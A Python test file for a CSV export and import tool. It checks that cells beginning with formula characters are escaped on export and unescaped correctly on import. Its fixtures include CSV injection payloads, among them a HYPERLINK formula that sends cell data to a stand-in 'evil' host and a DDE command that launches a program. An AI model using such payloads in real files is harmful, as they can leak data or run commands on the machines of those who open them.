"""CSV cells that a spreadsheet would run as formulas: export defuses them, and
import drops only the quote that export added."""

from __future__ import annotations

import csv
import io

import pytest

from tests.csv_files.helpers import (
    KINDS,
    copy_over,
    imported,
)
from wom.store import ingest

FORMULAS = {
    '=HYPERLINK("http://evil/?"&A2,"x")': "=c0@example.org",
    "+1 555 0100": "+c1@example.org",
    "-ann": "-c2@example.org",
    "@ann": "c3@example.org",
}


@pytest.fixture
def formulas(app):
    """People, a referral and a purchase whose text starts like a formula."""
    ingest(
        app.extensions["wom.store"],
        [
            {
                "type": "signup",
                "customer": f"c{n}",
                "name": name,
                "email": email,
                "at": "2026-01-01T00:00:00Z",
            }
            for n, (name, email) in enumerate(FORMULAS.items())
        ]
        + [
            {
                "type": "referral",
                "from": "c0",
                "to": "c1",
                "at": "2026-01-02T00:00:00Z",
                "channel": "=cmd|' /C calc'!A0",
                "event_id": "@sum(1+1)",
            },
            {
                "type": "mention",
                "from": "c2",
                "to": "c3",
                "at": "2026-01-02T00:00:00Z",
                "channel": "+radio",
                "event_id": "=m1",
            },
            {
                "type": "purchase",
                "customer": "c1",
                "value": 0,
                "at": "2026-01-03T00:00:00Z",
                "event_id": "-2+3",
            },
        ],
        source="test",
    )
    return app.test_cli_runner()


@pytest.mark.parametrize("kind", KINDS)
def test_export_makes_no_cell_a_formula(formulas, kind):
    result = formulas.invoke(args=["export", kind])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_quotes_a_formula_once(formulas):
    result = formulas.invoke(args=["export", "customers"])
    assert "c2,'-ann,'-c2@example.org," in result.stdout
    assert 'c0,"\'=HYPERLINK(""http' in result.stdout


def test_a_round_trip_keeps_text_that_looks_like_a_formula(
    formulas, tmp_path, app, elsewhere
):
    copy_over(formulas, tmp_path / "exported", elsewhere)
    assert texts(elsewhere.extensions["wom.store"].reader()) == texts(
        app.extensions["wom.store"].reader()
    )


def texts(db) -> list:
    return db.execute(
        "SELECT name, email FROM identities UNION ALL "
        "SELECT channel, event_id FROM events WHERE type != 'signup' ORDER BY 1, 2"
    ).fetchall()


@pytest.mark.parametrize(
    ("cell", "name"),
    [
        ("'=1+1", "=1+1"),
        ("'-ann", "-ann"),
        ("'@ann", "@ann"),
        ("''=1+1", "'=1+1"),
        ("'Brien", "'Brien"),
        ("Ann '=x", "Ann '=x"),
    ],
)
def test_import_drops_only_the_quote_export_added(runner, write, db, cell, name):
    text = f"id,name,acquired_at\nc1,{cell},2026-01-01T00:00:00Z\n"
    result = imported(runner, write("customers.csv", text))
    assert result.exit_code == 0, result.output
    assert db.execute("SELECT name FROM identities").fetchone()[0] == name
